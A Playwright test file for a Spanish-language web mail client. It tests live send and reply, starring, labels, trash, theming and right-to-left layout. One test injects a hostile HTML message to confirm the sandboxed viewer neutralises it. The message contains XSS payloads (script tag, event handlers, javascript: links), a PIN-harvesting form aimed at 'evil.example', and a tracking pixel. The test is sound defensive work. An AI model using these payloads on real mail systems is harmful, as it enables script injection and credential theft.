import { expect, test, type Page } from '@playwright/test'
import { expectAccessible, shot, signIn } from './helpers'

/*
 * The e-mail client (issue 18): a colleague receives and answers live, mail is starred, labelled,
 * trashed and restored, and a hostile message shows without anything in it running.
 */
const ventas = { email: 'ventas@demo.com', password: 'ventas' }
const analista = { email: 'analista@demo.com', password: 'analista' }
const stillFrames = { animations: 'disabled' } as const

const row = (page: Page, subject: string) => page.getByTestId('email-row').filter({ hasText: subject })

/**
 * Opens a folder or label and waits until the mailbox shows that view with its own e-mails: the address changes
 * before the new view renders, and a row selected on the previous view's list is not the new view's selection.
 */
async function openView(page: Page, name: string, path: RegExp) {
  // A folder's name may be followed by its count ("Recibidos 3 sin leer").
  const link = page
    .getByRole('navigation', { name: 'Carpetas y etiquetas del correo' })
    .getByRole('link', { name: new RegExp(`^${name}(\\s|$)`) })
  await link.click()
  await expect(page).toHaveURL(path)
  await expect(link).toHaveAttribute('aria-current', 'page')
  await expect(page.getByRole('list', { name: 'Mensajes' })).toHaveAttribute('aria-busy', 'false')
}

async function write(page: Page, to: string, subject: string, text: string) {
  await page.getByRole('button', { name: 'Redactar' }).click()
  const dialog = page.getByRole('dialog', { name: 'Nuevo mensaje' })
  await dialog.getByRole('combobox', { name: 'Para' }).fill(to)
  await dialog.getByRole('combobox', { name: 'Para' }).press('Enter')
  await dialog.getByLabel('Asunto').fill(subject)
  await dialog.getByRole('textbox', { name: 'Mensaje' }).click()
  await page.keyboard.type(text)
  await dialog.getByRole('button', { name: 'Enviar' }).click()
  await expect(dialog).toBeHidden()
}

test('a colleague receives the mail live, reads it and answers; the answer arrives live', async ({
  page,
  browser,
}) => {
  test.setTimeout(90_000)
  const subject = `Expediente ${Date.now()}`
  await signIn(page, ventas)
  await page.goto('/apps/email')
  await expect(page.getByTestId('email-row').first()).toBeVisible()

  const colleague = await browser.newPage()
  await signIn(colleague, analista)
  await colleague.goto('/apps/email')
  await expect(colleague.getByTestId('email-row').first()).toBeVisible()

  await write(page, 'analista@demo.com', subject, 'Hola, te comparto el expediente del cliente.')
  await expect(page.getByText('Mensaje enviado')).toBeVisible()

  // No reload: the event channel brings it in, unread.
  await expect(row(colleague, subject)).toBeVisible({ timeout: 15_000 })
  await row(colleague, subject).getByRole('button').filter({ hasText: subject }).click()
  await expect(colleague.getByRole('heading', { level: 2, name: subject })).toBeVisible()
  const frame = colleague.frameLocator(`iframe[title="Contenido de «${subject}»"]`)
  await expect(frame.getByText('te comparto el expediente')).toBeVisible()
  await shot(colleague, 'email-reader', stillFrames)

  await colleague.getByRole('button', { name: 'Responder', exact: true }).click()
  const reply = colleague.getByRole('dialog', { name: 'Nuevo mensaje' })
  await expect(reply.getByRole('button', { name: 'ventas@demo.com' })).toBeVisible()
  await expect(reply.getByLabel('Asunto')).toHaveValue(`Re: ${subject}`)
  await reply.getByRole('textbox', { name: 'Mensaje' }).click()
  await colleague.keyboard.press('Control+Home')
  await colleague.keyboard.type('Recibido, lo reviso hoy.')
  await reply.getByRole('button', { name: 'Enviar' }).click()
  await expect(reply).toBeHidden()

  await expect(row(page, `Re: ${subject}`)).toBeVisible({ timeout: 15_000 })
  await row(page, `Re: ${subject}`).getByRole('button').filter({ hasText: subject }).click()
  // The conversation: the original above the answer.
  await expect(page.getByRole('article')).toHaveCount(2)
  await expect(page.frameLocator('iframe').last().getByText('Recibido, lo reviso hoy.')).toBeVisible()
  await shot(page, 'email-thread', stillFrames)
  await colleague.close()
})

test('star, label, trash and restore', async ({ page }) => {
  test.setTimeout(90_000)
  await signIn(page, ventas)
  await page.goto('/apps/email')
  const subject = 'Cotización de póliza amplia'
  const mail = row(page, subject)
  await expect(mail).toBeVisible()

  // A retry of this test finds the mail starred by the first attempt: star it only when it is not.
  const star = mail.getByRole('button', { name: 'Destacar' })
  if (await star.isVisible()) await star.click()
  await expect(mail.getByRole('button', { name: 'Quitar destacado' })).toHaveAttribute('aria-pressed', 'true')
  await openView(page, 'Destacados', /\/apps\/email\/starred$/)
  await expect(row(page, subject)).toBeVisible()

  // The label toggles: label it only when a first attempt has not.
  if (!(await row(page, subject).getByTitle('Privado').isVisible())) {
    await row(page, subject).getByRole('checkbox').check()
    await page.getByRole('button', { name: 'Etiquetas' }).click()
    await page.getByRole('menuitem', { name: 'Privado' }).click()
    await expect(row(page, subject).getByTitle('Privado')).toBeVisible()
  }
  await openView(page, 'Privado', /\/apps\/email\/private$/)
  await expect(row(page, subject)).toBeVisible()

  await row(page, subject).getByRole('checkbox').check()
  await page.getByRole('button', { name: 'Mover a la papelera' }).click()
  await expect(row(page, subject)).toHaveCount(0)
  await openView(page, 'Papelera', /\/apps\/email\/trashed$/)
  await expect(row(page, subject)).toBeVisible()
  await row(page, subject).getByRole('checkbox').check()
  await page.getByRole('button', { name: 'Restaurar' }).click()
  await expect(row(page, subject)).toHaveCount(0)
  await openView(page, 'Recibidos', /\/apps\/email$/)
  await expect(row(page, subject)).toBeVisible()
})

test('a hostile message shows in the sandboxed frame and nothing in it runs', async ({ page }) => {
  const dialogs: string[] = []
  page.on('dialog', (dialog) => {
    dialogs.push(dialog.message())
    void dialog.dismiss()
  })
  const sender = await signIn(page, analista)
  const subject = `Hostil ${Date.now()}`
  const sent = await page.request.post('/api/v1/email/messages', {
    headers: { authorization: `Bearer ${sender.accessToken}` },
    data: {
      to: ['ventas@demo.com'],
      subject,
      message:
        '<p onmouseover="window.parent.pwned=1">Mensaje con trampa</p><script>window.parent.pwned=2;alert(1)</script>' +
        '<img src="x" onerror="window.parent.pwned=3"><a href="javascript:window.parent.pwned=4">Abrir</a>' +
        '<form action="https://evil.example"><input name="pin"><button>Enviar PIN</button></form>' +
        '<div style="background: url(javascript:alert(5))">estilo</div><img src="https://tracker.example/p.gif" alt="rastreo">',
    },
  })
  expect(sent.status()).toBe(201)

  await signIn(page, ventas)
  await page.goto('/apps/email')
  await row(page, subject).getByRole('button').filter({ hasText: subject }).click()
  const iframe = page.locator(`iframe[title="Contenido de «${subject}»"]`)
  await expect(iframe).toHaveAttribute('sandbox', '')
  const frame = page.frameLocator(`iframe[title="Contenido de «${subject}»"]`)
  await expect(frame.getByText('Mensaje con trampa')).toBeVisible()
  await expect(
    frame.locator('script, form, input, [onmouseover], [onerror], a[href^="javascript"]'),
  ).toHaveCount(0)
  await expect(page.getByText('Las imágenes externas están bloqueadas')).toBeVisible()
  await frame.getByText('Mensaje con trampa').hover()
  await frame.getByText('Abrir').click()
  expect(await page.evaluate(() => (window as { pwned?: number }).pwned)).toBeUndefined()
  expect(dialogs).toEqual([])
  await shot(page, 'email-hostile', stillFrames)
})

test('the mailbox in light, dark and Arabic (right to left), accessible', async ({ page }) => {
  test.setTimeout(90_000)
  await signIn(page, ventas)
  await page.goto('/apps/email')
  await expect(page.getByTestId('email-row').first()).toBeVisible()
  await expect(page.getByRole('link', { name: /Recibidos/ })).toHaveAttribute('aria-current', 'page')
  await shot(page, 'email-inbox', stillFrames)
  await expectAccessible(page)

  await page.evaluate(() => localStorage.setItem('Mesa-theme', 'dark'))
  await page.goto('/apps/email/label/important')
  await expect(page.locator('html')).toHaveClass(/dark/)
  await expect(page.getByTestId('email-row').first()).toBeVisible()
  await shot(page, 'email-dark', stillFrames)
  await expectAccessible(page)

  await page.evaluate(() => {
    localStorage.setItem('Mesa-theme', 'light')
    localStorage.setItem('Mesa-language', '"ar"')
  })
  await page.goto('/apps/email')
  await expect(page.locator('html')).toHaveAttribute('dir', 'rtl')
  await expect(page.getByRole('link', { name: /الوارد/ })).toBeVisible()
  await page.getByRole('button', { name: 'إنشاء رسالة' }).click()
  await expect(page.getByRole('textbox', { name: 'الرسالة' })).toBeVisible()
  await shot(page, 'email-arabic-compose', stillFrames)
  await page.keyboard.press('Escape')
  await shot(page, 'email-arabic', stillFrames)

  await page.setViewportSize({ width: 390, height: 844 })
  await page.evaluate(() => localStorage.setItem('Mesa-language', '"es"'))
  await page.goto('/apps/email')
  await expect(page.getByTestId('email-row').first()).toBeVisible()
  await shot(page, 'email-phone', stillFrames)
})
